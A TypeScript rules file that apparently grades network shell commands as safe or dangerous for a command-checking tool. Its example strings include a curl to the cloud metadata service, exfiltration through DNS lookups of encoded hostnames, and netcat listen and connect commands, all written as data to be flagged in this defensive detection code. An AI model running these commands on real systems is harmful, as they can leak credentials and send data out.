// Rules for the network. Judges effects by what kind of host they reach, knows no programs.
import type { Rule } from '../types.ts'

export const network: readonly Rule[] = [
  { id: 'network/read', doc: 'reads from a public address', when: { effect: ['network.read', 'network.lookup'] }, tier: 'safe', examples: ['curl https://example.com', 'ping -c 1 example.com'] },
  { id: 'network/read-strict', doc: 'reads from the network', when: { effect: ['network.read', 'network.lookup'] }, tier: 'dangerous', profile: 'strict', examples: ['curl https://example.com'] },
  {
    id: 'network/read-private',
    doc: 'reads from an address that only this machine or its network can reach',
    when: { effect: ['network.read', 'network.lookup'], scope: ['private', 'loopback'] },
    tier: 'dangerous',
    examples: ['curl http://192.168.1.1/', 'curl http://localhost:3000/', 'ping -c 1 192.168.1.1'],
  },
  {
    id: 'network/read-metadata',
    doc: "reads the cloud's metadata service, which hands out credentials",
    when: { effect: ['network.read', 'network.lookup'], scope: ['metadata'] },
    tier: 'dangerous',
    instead: 'ask a person for the one value that is needed',
    examples: ['curl http://169.254.169.254/latest/meta-data/', 'ping -c 1 169.254.169.254'],
  },
  {
    id: 'network/read-computed',
    doc: 'reads from an address that is computed when it runs',
    when: { effect: ['network.read', 'network.lookup'], scope: ['computed'] },
    tier: 'dangerous',
    instead: 'write the address out',
    examples: ['curl "https://example.com/$PAGE"', 'ping -c 1 "www.$NAME"'],
  },
  {
    id: 'network/read-encoded',
    doc: 'asks for a name that looks like packed data, and so tells it to a stranger',
    when: { effect: ['network.read', 'network.lookup'], scope: ['encoded'] },
    tier: 'dangerous',
    examples: ['dig nbswy3dpeb3w64tmmqqho2djomqgs4zamexhgzlsmu2q.example.com', 'curl https://6865726520697320612066696c65206f662073656372657473.example.com/'],
  },
  { id: 'network/write', doc: 'sends data over the network', when: { effect: ['network.write'] }, tier: 'dangerous', instead: 'only read, if that is enough: `curl https://example.com`', examples: ['curl -X POST https://example.com'] },
  { id: 'network/connect', doc: 'opens a connection that can carry anything', when: { effect: ['network.connect'] }, tier: 'dangerous', examples: ['nc example.com 80'] },
  { id: 'network/listen', doc: 'lets others connect to this machine', when: { effect: ['network.listen'] }, tier: 'dangerous', examples: ['nc -l 8080'] },
  { id: 'network/configure', doc: 'changes network settings', when: { effect: ['network.configure'] }, tier: 'dangerous', instead: 'look first: `ip addr`', examples: ['ip link set eth0 down'] },
]
